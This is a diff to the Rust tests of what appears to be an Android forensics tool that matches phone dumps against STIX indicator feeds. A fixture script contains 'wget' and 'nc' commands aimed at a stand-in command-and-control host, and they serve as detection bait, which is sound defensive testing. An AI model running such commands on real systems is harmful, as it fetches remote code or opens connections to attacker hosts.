@@ -78,6 +78,70 @@ fn each_kind_of_indicator_is_found_in_bytes_with_feed_id_and_date() {
     assert!(gaps.iter().any(|it| it["why"].as_str().unwrap().contains("indicator--8")), "{gaps:#?}");
 }
 
+/// A phone with one thing of each kind that a feed can name; the second app is signed.
+fn phone_of_each(folder: &Path) {
+    fs::create_dir_all(folder.join("dump/system/bin")).unwrap();
+    fs::create_dir_all(folder.join("dump/system/app/A")).unwrap();
+    fs::write(folder.join("dump/system/build.prop"), "ro.build.version.sdk=29\nsys.brand.note=1\n").unwrap();
+    fs::write(folder.join("dump/system/bin/up"), SCRIPT_OF_EACH).unwrap();
+    let app = Path::new(env!("CARGO_MANIFEST_DIR")).join("../formats/tests/samples/apk/base.apk");
+    fs::copy(app, folder.join("dump/system/app/A/A.apk")).unwrap();
+}
+
+/// Has a host below a domain, addresses of both kinds, a page and a mail address.
+const SCRIPT_OF_EACH: &str = "#!/system/bin/sh\nwget http://c2.spy.example/x\nnc 192.0.2.7 80\nnc 2001:db8::7 80\n\
+                              echo spy@mail.example\n";
+
+/// Every object path that is looked for, with what of it is on that phone.
+const EACH: &[(&str, &str)] = &[
+    ("domain-name:value", "spy.example"),
+    ("url:value", "http://c2.spy.example/x"),
+    ("ipv4-addr:value", "192.0.2.7"),
+    ("ipv6-addr:value", "2001:DB8:0::7"),
+    ("email-addr:value", "spy@mail.example"),
+    ("process:name", "up"),
+    ("file:name", "up"),
+    ("file:path", "/system/bin/up"),
+    ("file:hashes.md5", "3437dddec4635aa1c1c6369ac9ad2ec8"),
+    ("file:hashes.'SHA-1'", "fd8880ff59d913b82feca2c219fdbe0fde533f37"),
+    ("file:hashes.'SHA-256'", "c80beb57e8f5c67c6be9e8aa01de9f940e42347625522facccc6f41f7cc36831"),
+    ("app:id", "org.example.postern"),
+    ("app:cert.sha1", "72AF4707F8B20EFCFBED3167155B9212AB9905D6"),
+    ("app:cert.sha256", "fabd9fde2e582868dc6c283c75928bcc12194e12f6e1898f8beae1a0713aee7e"),
+    ("android-property:name", "sys.brand.note"),
+];
+
+#[test]
+fn one_indicator_of_every_path_that_is_supported_is_found_and_one_beside_it_is_not() {
+    let folder = tempfile::tempdir().unwrap();
+    let folder = folder.path();
+    phone_of_each(folder);
+    let mut objects = Vec::new();
+    for (n, (path, value)) in EACH.iter().enumerate() {
+        // The same with its last letter changed is on no phone.
+        let mut other = (*value).to_owned();
+        let last = if other.pop() == Some('0') { '1' } else { '0' };
+        other.push(last);
+        for (id, value) in [(format!("indicator--{n}-there"), *value), (format!("indicator--{n}-not"), &*other)] {
+            objects.push(serde_json::json!({
+                "type": "indicator", "id": id, "valid_from": "2025-01-01", "pattern_type": "stix",
+                "pattern": format!("[{path} = '{value}']"),
+            }));
+        }
+    }
+    let bundle = serde_json::json!({ "type": "bundle", "objects": objects });
+    fs::write(folder.join("each.stix2"), bundle.to_string()).unwrap();
+    let report = report(folder, &["--iocs", "each.stix2"]);
+    let told = told(&report);
+    for (n, (path, _)) in EACH.iter().enumerate() {
+        let claim = told.iter().find(|it| it.1.contains(&format!("indicator--{n}-there")));
+        let (_, claim) = claim.unwrap_or_else(|| panic!("{path} is not found: {told:#?}"));
+        assert!(claim.contains("each.stix2") && claim.contains("2025-01-01"), "{claim}");
+    }
+    assert!(told.iter().all(|it| it.1.contains("-there")), "{told:#?}");
+    assert_eq!(told.len(), EACH.len());
+}
+
 #[test]
 fn a_feed_that_cannot_be_read_is_said_and_the_others_are_used() {
     let folder = tempfile::tempdir().unwrap();
@@ -95,6 +159,19 @@ fn a_feed_that_cannot_be_read_is_said_and_the_others_are_used() {
     let report: Value = serde_json::from_slice(&fs::read(folder.join("r.json")).unwrap()).unwrap();
     assert_eq!(told(&report).len(), 1);
     assert_eq!(postern(folder, &["check", "dump", "--iocs", "nowhere"]).status.code(), Some(2));
+}
+
+#[cfg(not(feature = "yara"))]
+#[test]
+fn a_build_without_the_engine_says_how_to_get_it() {
+    let folder = tempfile::tempdir().unwrap();
+    let folder = folder.path();
+    phone(folder);
+    fs::write(folder.join("a.yar"), "rule a { condition: true }").unwrap();
+    let run = postern(folder, &["check", "dump", "--yara", "a.yar"]);
+    assert_eq!(run.status.code(), Some(2));
+    let said = String::from_utf8(run.stderr).unwrap();
+    assert!(said.contains("cargo build --release --features yara"), "{said}");
 }
 
 #[test]
